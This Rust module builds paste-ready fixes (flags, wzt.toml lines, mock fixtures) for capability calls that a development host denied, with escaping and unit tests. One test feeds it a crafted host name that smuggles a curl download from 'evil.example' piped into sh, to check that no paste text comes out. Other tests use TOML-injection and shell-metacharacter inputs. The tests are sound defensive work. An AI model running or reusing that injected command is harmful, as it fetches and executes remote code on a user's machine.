//! What to change when a provider denied a capability call: the flag, the `wzt.toml` line or
//! the fixture entry that would have let it through, ready to paste (docs/design.md §16).
//!
//! Worked out from the traced call (`CapCall`): its `call` names the provider's function, and
//! its `args` and `result` are the ones the providers write (`host/providers/`). A denial this
//! module does not know gets no fix: the page shows the provider's own words.

use serde::Serialize;

use crate::host::providers::CapCall;

/// How to let a denied call through.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Fix {
    /// What to do, in words.
    pub summary: String,
    /// Text to paste, each with where it goes.
    pub paste: Vec<Paste>,
}

/// One piece of text to paste.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Paste {
    /// Where it goes: `command line`, `wzt.toml`, `--kv-seed file`, ….
    pub into: &'static str,
    pub text: String,
}

/// The fix for a denied call; `None` for a call that was not denied or a denial without a
/// known fix.
pub fn for_call(call: &CapCall) -> Option<Fix> {
    if !call.denied {
        return None;
    }
    if call.result.starts_with("denied: outside the signed scope")
        && let Some(resource) = &call.resource
    {
        return outside_scope(resource);
    }
    match call.call.as_str() {
        "wasi:http/outgoing-handler.handle" => outgoing_http(&call.args, &call.result),
        "wasi:keyvalue/store.open" if call.result.contains("no such bucket") => {
            let bucket = quoted(call.args.strip_prefix("bucket ")?)?;
            Some(Fix {
                summary: format!(
                    "the in-memory store was seeded without the bucket {bucket:?}: add it to the --kv-seed file"
                ),
                paste: vec![Paste {
                    into: "--kv-seed file",
                    text: format!("{}: {{}}", serde_json::to_string(&bucket).ok()?),
                }],
            })
        }
        "wasmcloud:messaging/consumer.request" if call.result.contains("--msg-replies") => {
            let subject = call.args.split(' ').next()?;
            Some(Fix {
                summary: format!(
                    "no canned reply for {subject}: add one to the --msg-replies file"
                ),
                paste: vec![Paste {
                    into: "--msg-replies file",
                    text: format!("[[reply]]\nsubject = {}\nbody = \"\"", toml_string(subject)),
                }],
            })
        }
        _ => None,
    }
}

/// A call on a resource outside the actor's signed scopes: the scope to sign, as a flag and
/// as the `[actor.scopes]` line. A pattern (a subject with wildcards) gets none: a scoped
/// actor names its resources.
fn outside_scope(resource: &crate::scopes::Resource) -> Option<Fix> {
    let kind = crate::scopes::ScopeKind::by_name(&resource.kind)?;
    let value = kind.parse_value(&resource.value).ok()?;
    if !kind.is_concrete(&value) {
        return None;
    }
    Some(Fix {
        summary: format!(
            "{kind} {value} is outside the actor's signed scopes: sign it with this scope (it is part of the claims, so the actor is signed again)"
        ),
        paste: vec![
            Paste {
                into: "command line",
                text: format!(
                    "--scope {}",
                    crate::text::shell_word(&format!("{kind}={value}"))
                ),
            },
            Paste {
                into: "wzt.toml",
                text: format!("[actor.scopes]\n{kind} = [{}]", toml_string(&value)),
            },
        ],
    })
}

/// An outgoing request refused by the local client (`--allow-host` names the pattern to add)
/// or unanswered by the mock one (a fixture to add).
fn outgoing_http(args: &str, result: &str) -> Option<Fix> {
    let (method, url) = args.split_once(' ')?;
    if let Some(at) = result.find("--allow-host ") {
        // Only a destination the flag itself would accept, written as it parses: the text
        // came through a request a client may have shaped.
        let written: String = result[at + "--allow-host ".len()..]
            .chars()
            .take_while(|c| !c.is_whitespace())
            .collect();
        let pattern = written
            .trim_matches(|c| matches!(c, '\'' | ';' | ',' | ')'))
            .parse::<crate::host::providers::http_client::HostPattern>()
            .ok()?
            .to_scope()
            .to_string();
        return Some(Fix {
            summary: format!("allow the actor to reach {pattern}"),
            paste: vec![
                Paste {
                    into: "command line",
                    text: format!("--allow-host {}", crate::text::shell_word(&pattern)),
                },
                Paste {
                    into: "wzt.toml",
                    text: format!("[dev]\nallow-host = [{}]", toml_string(&pattern)),
                },
            ],
        });
    }
    if result.starts_with("no fixture matches") {
        return Some(Fix {
            summary: "no canned response matches: add one to the --http-fixtures file".into(),
            paste: vec![Paste {
                into: "--http-fixtures file",
                text: format!(
                    "[[response]]\nmethod = {}\nurl = {}\nstatus = 200\nbody = \"\"",
                    toml_string(method),
                    toml_string(url)
                ),
            }],
        });
    }
    None
}

/// The text inside `"…"` as Rust's `{:?}` wrote it, when it needed no escapes.
fn quoted(text: &str) -> Option<String> {
    let inner = text.strip_prefix('"')?.strip_suffix('"')?;
    (!inner.contains('\\')).then(|| inner.to_string())
}

/// `text` as a one-line TOML basic string: JSON's escapes are TOML's, and TOML also wants
/// DEL escaped.
pub(super) fn toml_string(text: &str) -> String {
    serde_json::to_string(text)
        .expect("a string serializes")
        .replace('\u{7f}', "\\u007F")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn denied(call: &str, args: &str, result: &str) -> CapCall {
        CapCall {
            actor: "a".into(),
            invocation: Some(1),
            call: call.into(),
            resource: None,
            args: args.into(),
            result: result.into(),
            duration_us: 1,
            denied: true,
        }
    }

    #[test]
    fn an_outgoing_request_to_a_host_not_allowed_gets_the_flag_and_the_toml_line() {
        let fix = for_call(&denied(
            "wasi:http/outgoing-handler.handle",
            "GET https://api.example.com/x",
            "api.example.com:443 is not allowed; allow it with --allow-host api.example.com",
        ))
        .unwrap();
        assert_eq!(fix.summary, "allow the actor to reach api.example.com");
        assert_eq!(fix.paste[0].text, "--allow-host api.example.com");
        assert_eq!(
            fix.paste[1].text,
            "[dev]\nallow-host = [\"api.example.com\"]"
        );
        let by_address = for_call(&denied(
            "wasi:http/outgoing-handler.handle",
            "GET http://intranet/",
            "intranet resolves to 10.0.0.1, a private address; a host name never reaches such an address: allow it by address with --allow-host 10.0.0.1:80",
        ))
        .unwrap();
        assert_eq!(by_address.paste[0].text, "--allow-host 10.0.0.1:80");
    }

    #[test]
    fn a_host_a_client_shaped_never_becomes_a_command_to_paste() {
        // What an older provider message, or a crafted result, could carry after the flag.
        let hostile = for_call(&denied(
            "wasi:http/outgoing-handler.handle",
            "GET http://x/",
            "x&curl$IFS-so$IFS'a'$IFS'evil.example'&sh$IFS'a'&:80 is not allowed; allow it with --allow-host x&curl$IFS-so$IFS'a'$IFS'evil.example'&sh$IFS'a'&",
        ));
        assert_eq!(hostile, None);
        let none = for_call(&denied(
            "wasi:http/outgoing-handler.handle",
            "GET http://x/",
            "x&y:80 is not allowed; no allow-host pattern names such a host",
        ));
        assert_eq!(none, None);
        // An IPv6 address is a glob to a shell: quoted.
        let v6 = for_call(&denied(
            "wasi:http/outgoing-handler.handle",
            "GET http://intranet/",
            "intranet resolves to ::1, a loopback address; a host name never reaches such an address: allow it by address with --allow-host '[::1]:80'",
        ))
        .unwrap();
        assert_eq!(v6.paste[0].text, "--allow-host '[::1]:80'");
    }

    #[test]
    fn mock_denials_get_the_fixture_entry_and_hostile_names_stay_quoted() {
        let fix = for_call(&denied(
            "wasi:http/outgoing-handler.handle",
            "POST http://x/\"\n[evil]",
            "no fixture matches (mock mode never uses the network)",
        ))
        .unwrap();
        assert_eq!(
            fix.paste[0].text,
            "[[response]]\nmethod = \"POST\"\nurl = \"http://x/\\\"\\n[evil]\"\nstatus = 200\nbody = \"\""
        );
        // It reads back as the one entry, with the URL as it was.
        let parsed: toml::Table = toml::from_str(&fix.paste[0].text).unwrap();
        assert_eq!(
            parsed["response"][0]["url"].as_str(),
            Some("http://x/\"\n[evil]")
        );
        assert_eq!(parsed.len(), 1);
        let odd = toml_string("a\u{7f}\u{1}b");
        assert_eq!(
            toml::from_str::<toml::Table>(&format!("k = {odd}")).unwrap()["k"].as_str(),
            Some("a\u{7f}\u{1}b")
        );
        let bucket = for_call(&denied(
            "wasi:keyvalue/store.open",
            "bucket \"cache\"",
            "error: no such bucket",
        ))
        .unwrap();
        assert_eq!(bucket.paste[0].text, "\"cache\": {}");
        // A name Rust's Debug had to escape is not guessed at.
        assert_eq!(
            for_call(&denied(
                "wasi:keyvalue/store.open",
                "bucket \"a\\\"b\"",
                "error: no such bucket"
            )),
            None
        );
        let reply = for_call(&denied(
            "wasmcloud:messaging/consumer.request",
            "orders.get \"x\" (timeout 100 ms)",
            "no reply for subject orders.get: add a [[reply]] for it to the --msg-replies file",
        ))
        .unwrap();
        assert_eq!(
            reply.paste[0].text,
            "[[reply]]\nsubject = \"orders.get\"\nbody = \"\""
        );
    }

    #[test]
    fn a_call_outside_the_scopes_gets_the_scope_to_sign() {
        let mut call = denied(
            "wasi:keyvalue/store.open",
            "bucket \"other\"",
            "denied: outside the signed scope kv.bucket",
        );
        call.resource = Some(crate::scopes::Resource::new(
            crate::scopes::ScopeKind::KvBucket,
            "other",
        ));
        let fix = for_call(&call).unwrap();
        assert_eq!(fix.paste[0].text, "--scope kv.bucket=other");
        assert_eq!(fix.paste[1].text, "[actor.scopes]\nkv.bucket = [\"other\"]");
        let parsed: toml::Table = toml::from_str(&fix.paste[1].text).unwrap();
        assert_eq!(
            parsed["actor"]["scopes"]["kv"]["bucket"][0].as_str(),
            Some("other")
        );
        // A name a shell would read otherwise is quoted; a pattern gets no fix.
        call.resource = Some(crate::scopes::Resource::new(
            crate::scopes::ScopeKind::KvBucket,
            "it's$x",
        ));
        assert_eq!(
            for_call(&call).unwrap().paste[0].text,
            "--scope 'kv.bucket=it'\\''s$x'"
        );
        call.resource = Some(crate::scopes::Resource::new(
            crate::scopes::ScopeKind::MsgPublish,
            "orders.>",
        ));
        assert_eq!(for_call(&call), None);
    }

    #[test]
    fn calls_that_were_not_denied_or_unknown_denials_get_none() {
        let mut call = denied("wasi:keyvalue/store.get", "b/k", "none");
        assert_eq!(for_call(&call), None);
        call.denied = false;
        call.call = "wasi:http/outgoing-handler.handle".into();
        assert_eq!(for_call(&call), None);
        assert_eq!(
            for_call(&denied("lattice.message", "s", "bad_signature: x")),
            None
        );
    }
}
